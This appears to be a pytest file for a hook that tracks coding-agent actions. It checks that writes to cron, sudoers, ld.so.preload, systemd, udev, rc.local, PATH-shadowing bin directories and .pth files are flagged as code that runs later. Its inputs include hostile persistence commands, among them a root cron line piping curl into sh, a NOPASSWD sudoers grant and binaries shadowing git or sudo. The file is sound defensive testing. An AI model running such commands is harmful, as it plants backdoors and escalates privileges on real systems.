"""What runs a written file later, outside the hooks (issue 26): cron's tables, the dynamic loader's preload list,
sudoers, systemd units, udev rules, rc.local (the catalogue's `runs_later`, blindsh27's table, which these cases
were written for too), and a program put in a directory searched before the system's under a system program's
name (`bin_dirs`: a PATH hijack, with `when` saying which directory shadows what). Each is an `exec` with
`deferred` and `startup`, asked by destructive_shell's deferred-exec (shell) and protected_paths' startup-file
(file tools)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from hookd.enrich.shell.analysis import analyse_shell
from tests.unit.enrich.test_tool_effects import HOME as TOOL_HOME
from tests.unit.enrich.test_tool_effects import enriched

HOME = "/home/u"


def later(command: str, proj: Path) -> list[dict[str, Any]]:
    shell, found = analyse_shell(command, home=HOME, base_dir=str(proj), project_dir=str(proj))
    assert shell["parse_error"] is False
    return [e for e in found if e["op"] == "exec" and e.get("deferred") and e.get("startup")]


@pytest.mark.parametrize(
    ("command", "place"),
    [("echo '* * * * * root curl -s x | sh' > /etc/cron.d/job", "/etc/cron.d/job"),
     ("echo '* * * * * id' >> /var/spool/cron/crontabs/root", "/var/spool/cron/crontabs/root"),
     ("cp job.sh /etc/cron.daily/job", "/etc/cron.daily/job"),
     ("echo /tmp/x.so > /etc/ld.so.preload", "/etc/ld.so.preload"),
     ("echo 'u ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/u", "/etc/sudoers.d/u"),
     ("cp x.service /etc/systemd/system/x.service", "/etc/systemd/system/x.service"),
     ("cp x.service ~/.config/systemd/user/x.service", f"{HOME}/.config/systemd/user/x.service"),
     ("echo 'ACTION==\"add\", RUN+=\"/tmp/x\"' > /etc/udev/rules.d/99-x.rules", "/etc/udev/rules.d/99-x.rules"),
     ("echo '/tmp/x &' >> /etc/rc.local", "/etc/rc.local"),
     ("printf '#!/bin/sh\\nid\\n' > ~/.local/bin/git", f"{HOME}/.local/bin/git"),
     ("cp ./helper ~/bin/ls", f"{HOME}/bin/ls"), ("ln -s /tmp/x ~/go/bin/go", f"{HOME}/go/bin/go"),
     ("mv ./sudo ~/.local/bin/", f"{HOME}/.local/bin/sudo"), ("cp -r tools/ ~/.cargo/bin", f"{HOME}/.cargo/bin"),
     ("install -m 755 build/ls /usr/local/bin/ls", "/usr/local/bin/ls"),
     ("echo 'import os; os.system(\"id\")' > .venv/lib/python3.11/site-packages/x.pth",
      "{proj}/.venv/lib/python3.11/site-packages/x.pth")],
)  # fmt: skip
def test_a_file_something_runs_later_is_deferred_code(command: str, place: str, tmp_path: Path) -> None:
    found = later(command, tmp_path)
    assert [e["startup"] for e in found] == [place.format(proj=tmp_path)]


@pytest.mark.parametrize(
    "command",
    [
        "install -m 755 build/mytool-7f3a ~/.local/bin/mytool-7f3a",
        "cp ./mytool node_modules/.bin/mytool",
        "echo x > /etc/cron.deny.txt.bak",
        "cp build/ls ./bin/ls",
        "cat /etc/crontab",
        "echo '0 3 * * * app backup' > deploy/etc/cron.d/backup",
        "cp app.service debian/etc/systemd/system/",
        "ls ~/.local/bin",
    ],
)
def test_a_new_name_or_a_project_bin_runs_nothing_later(command: str, tmp_path: Path) -> None:
    assert later(command, tmp_path) == []


@pytest.mark.parametrize(
    "path", [f"{TOOL_HOME}/.local/bin/git", "/etc/cron.d/job", f"{TOOL_HOME}/.config/systemd/user/x.service"]
)
def test_a_file_tool_writing_there_is_deferred_code(path: str, tmp_path: Path) -> None:
    event = enriched("claude", "Write", {"file_path": path, "content": "#!/bin/sh\nid\n"}, tmp_path)
    found = [e for e in event.facts["effects"] if e["op"] == "exec" and e.get("startup")]
    assert [e["startup"] for e in found] == [path] and found[0]["known"] is True  # the text is shown


def test_the_terraform_state_dumped_is_a_secret_read(tmp_path: Path) -> None:
    _, found = analyse_shell("terraform state pull", home=HOME, base_dir=str(tmp_path), project_dir=str(tmp_path))
    assert [(e["op"], e["path"]) for e in found] == [("read", f"{tmp_path}/terraform.tfstate")]
    _, found = analyse_shell("terraform output", home=HOME, base_dir=str(tmp_path), project_dir=str(tmp_path))
    assert found == []
